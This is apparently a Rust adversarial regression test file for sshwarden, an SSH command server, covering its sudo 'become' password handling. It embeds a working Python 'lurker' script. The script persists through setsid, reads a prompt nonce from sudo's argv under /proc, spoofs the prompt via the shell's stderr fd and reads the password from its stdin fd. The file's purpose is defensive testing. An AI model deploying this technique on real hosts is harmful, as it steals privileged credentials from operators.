//! Adversarial tests (fourth round) against `become` with a password: a process of the
//! login user, left behind by an allowed command, watches for the next `become` run and
//! tries to answer sshwarden's prompt check itself. Each test failed on the code it was
//! written against (the prompt nonce was in sudo's world-readable argv).
//!
//! What these tests do not claim: a process running as the login user can still race the
//! session's own pipes (it may open `/proc/<shell>/fd/0` and read the nonce line, or
//! ptrace the shell where Yama does not forbid it). A become password is exposed to the
//! login account by nature; SECURITY.md says so and recommends NOPASSWD lines.

use std::time::Duration;

use serde_json::{Value, json};

use crate::support::mcp;
use crate::support::sshd::{Fleet, FleetOptions, PORT, USER, password};

/// The password hex-encoded: how the programs below report what they read, past the masker.
fn password_hex() -> String {
    password().bytes().map(|b| format!("{b:02x}")).collect()
}

/// A process of the login user (not root) that waits for the next `become` run on the
/// host at `argv[1]`: it finds the login shell (its parent is sshd) whose command line
/// names `sshwarden_prompt` or holds a nonce, opens that shell's stdin and stderr through
/// `/proc/<shell>/fd` (the same user's process, so allowed), looks for the nonce in the
/// command line of the shell's sudo child (world-readable), writes it to the channel's
/// stderr before sudo (still starting up) does, and reads the password sshwarden then
/// sends. It writes what it read hex-encoded to `argv[2]` and to the channel's stdout, and
/// its own pid to `argv[2].pid`.
const LURKER: &str = r#"import os, re, sys, time
target, out_path, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
with open(out_path + '.pid', 'w') as f:
    f.write(str(os.getpid()))
pat = re.compile(rb'sshwarden-[0-9a-f]{32}:')
def read(path):
    try:
        with open(path, 'rb') as f:
            return f.read()
    except OSError:
        return b''
def report(shell, data):
    stolen = data.strip().hex()
    if not stolen:
        return False
    with open(out_path, 'w') as f:
        f.write(stolen)
    try:
        os.write(os.open('/proc/%s/fd/1' % shell, os.O_WRONLY), ('stolen become password (hex): %s\n' % stolen).encode())
    except OSError:
        pass
    return True
def steal(shell):
    env = read('/proc/%s/environ' % shell)
    if (' %s ' % target).encode() not in env:
        return False
    try:
        err = os.open('/proc/%s/fd/2' % shell, os.O_WRONLY)
        inp = os.open('/proc/%s/fd/0' % shell, os.O_RDONLY)
    except OSError:
        return False
    end = time.time() + 15
    nonce = None
    while nonce is None and time.time() < end:
        for child in read('/proc/%s/task/%s/children' % (shell, shell)).split():
            cmd = read('/proc/%s/cmdline' % child.decode())
            m = pat.search(cmd)
            if cmd.startswith(b'sudo\0') and m:
                nonce = m.group(0)
                break
    if nonce is None:
        return False
    os.write(err, nonce)
    data = b''
    while not data.endswith(b'\n') and time.time() < end:
        c = os.read(inp, 4096)
        if not c:
            break
        data += c
    return report(shell, data)
seen = set()
end = time.time() + seconds
while time.time() < end:
    for p in os.listdir('/proc'):
        if not p.isdigit() or p in seen:
            continue
        cmd = read('/proc/%s/cmdline' % p)
        if cmd.startswith(b'sshd'):
            continue
        seen.add(p)
        if b'sshwarden_prompt' not in cmd and not pat.search(cmd):
            continue
        stat = read('/proc/%s/stat' % p).decode(errors='replace')
        ppid = stat.rsplit(')', 1)[-1].split()[1] if ')' in stat else ''
        if not read('/proc/%s/cmdline' % ppid).startswith(b'sshd'):
            continue
        if steal(p):
            sys.exit(0)
    time.sleep(0.001)
"#;

/// A fleet with `h1pw` (a become password) where `/usr/bin/id` runs `become: root` and
/// everything else runs as the login user (the fixture's `test-all` rule).
fn become_fleet() -> Fleet {
    crate::support::sudo::ensure_sudoers();
    let fleet = Fleet::start(FleetOptions { hosts: 1, ..Default::default() });
    fleet.add_hosts(&format!(
        "  - alias: h1pw\n    host: {}\n    port: {PORT}\n    credentials: key\n    connect_timeout: 5\n    become_password_secret: swtest_password\n",
        fleet.hosts[0].addr.ip()
    ));
    let policy = fleet.path("config/policy.yml");
    let rule = "rules:\n  - id: id-as-root\n    action: allow\n    aliases: [h1pw]\n    commands: [\"/usr/bin/id\"]\n    become: root\n";
    let text = std::fs::read_to_string(&policy).unwrap().replacen("rules:\n", rule, 1);
    std::fs::write(&policy, text).unwrap();
    fleet
}

/// Kills the lurker (a process this test started, by its pid) on drop.
struct Lurker(std::path::PathBuf);

impl Drop for Lurker {
    fn drop(&mut self) {
        let pidfile = self.0.with_extension("pid");
        if let Ok(pid) = std::fs::read_to_string(&pidfile) {
            let _ = std::process::Command::new("kill").arg(pid.trim()).status();
        }
    }
}

/// Writes the lurker and a launcher script into the fleet directory; returns the launcher
/// (an ordinary command the policy allows, run as the login user) and the loot file.
fn plant_lurker(fleet: &Fleet) -> (String, std::path::PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let loot = fleet.path("loot");
    std::fs::create_dir_all(&loot).unwrap();
    std::fs::set_permissions(&loot, std::fs::Permissions::from_mode(0o777)).unwrap();
    let lurker = fleet.path("lurk.py");
    std::fs::write(&lurker, LURKER).unwrap();
    std::fs::set_permissions(&lurker, std::fs::Permissions::from_mode(0o644)).unwrap();
    let stolen = loot.join("stolen");
    let launcher = fleet.path("launch.sh");
    std::fs::write(
        &launcher,
        format!(
            "#!/bin/sh\nsetsid /usr/bin/python3 {} {} {} 60 >/dev/null 2>&1 </dev/null &\necho lurker started\n",
            lurker.display(),
            fleet.hosts[0].addr.ip(),
            stolen.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&launcher, std::fs::Permissions::from_mode(0o755)).unwrap();
    (launcher.display().to_string(), stolen)
}

/// Starts the lurker with an allowed command (as the login user), then makes `attempts`
/// calls of `tool` with `args` until the lurker reports; the loot and the results.
async fn lure(tool: &str, args: Value) -> (String, Vec<String>) {
    let fleet = become_fleet();
    let (launcher, stolen) = plant_lurker(&fleet);
    let _guard = Lurker(stolen.clone());
    let (client, _) = mcp::stdio(&fleet.config_dir()).await;
    let (_, started) = mcp::call(&client, "ssh_run", json!({ "alias": "h1pw", "command": launcher })).await;
    assert!(started.to_string().contains("lurker started"), "setup: {started}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    // The operator's next become runs (a few: the lurker can be late for one).
    let mut results = Vec::new();
    for _ in 0..5 {
        let (_, r) = mcp::call(&client, tool, args.clone()).await;
        results.push(r.to_string());
        if std::fs::read_to_string(&stolen).is_ok_and(|s| !s.is_empty()) {
            break;
        }
    }
    mcp::close(client).await;
    (std::fs::read_to_string(&stolen).unwrap_or_default(), results)
}

/// An allowed command run as the login user leaves a process behind; at the next `become`
/// run it read the nonce from `sudo -S -p NONCE -v`'s world-readable argv while sudo
/// started, answered sshwarden's prompt check through `/proc/<shell>/fd/2`, and read the
/// password from `/proc/<shell>/fd/0`. The nonce now reaches sudo through `SUDO_PROMPT`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn become_prompt_nonce_is_in_no_argv_a_login_user_process_can_read() {
    let (loot, results) = lure("ssh_run", json!({ "alias": "h1pw", "command": "/usr/bin/id" })).await;
    assert!(
        !loot.contains(&password_hex()) && !results.iter().any(|r| r.contains(&password_hex())),
        "a process of the login user, left behind by an allowed command, read the become password ({USER}'s, hex {loot}) at the next become run:\n{}",
        results.join("\n")
    );
}

/// The same lurker against the `become` preflight, which once wrote the password to stdin
/// at once (no prompt check), then asked with the nonce in argv.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn become_preflight_prompt_nonce_is_in_no_argv_either() {
    let (loot, results) = lure("ssh_preflight", json!({ "target": "h1pw" })).await;
    assert!(
        !loot.contains(&password_hex()) && !results.iter().any(|r| r.contains(&password_hex())),
        "a process of the login user read the become password ({USER}'s, hex {loot}) during the preflight:\n{}",
        results.join("\n")
    );
}
